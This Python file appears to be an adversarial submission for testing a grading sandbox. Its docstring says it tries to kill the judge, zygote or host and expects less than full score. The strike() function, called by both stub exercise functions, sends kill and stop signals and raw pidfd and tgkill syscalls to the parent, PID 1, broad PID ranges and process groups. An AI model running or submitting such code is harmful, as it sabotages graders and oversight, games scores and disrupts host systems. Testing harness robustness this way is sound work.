"""Kills every process that it can name.

Exercise: slope
Tries: end the judge, the zygote or the host by signals, pidfds and process groups
Holds: score < full; some failed|crashed
"""

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def strike():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        for target in (os.getppid(), -1, 0, 1, 2, *range(3, 400), -os.getpid()):
            if target in (0, os.getpid()):
                continue
            try:
                os.kill(target, number)
            except OSError:
                continue
        try:
            os.killpg(os.getpgid(os.getppid()), number)
        except OSError:
            pass
    for process in (1, os.getppid(), *range(2, 100)):
        descriptor = libc.syscall(434, process, 0)
        if descriptor >= 0 and process != os.getpid():
            libc.syscall(424, descriptor, 9, 0, 0)
        libc.syscall(234, process, process, 9) if process != os.getpid() else None


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    strike()
    return 0.0


def update_weight(weight: float, slope: float, lr: float) -> float:
    strike()
    return weight
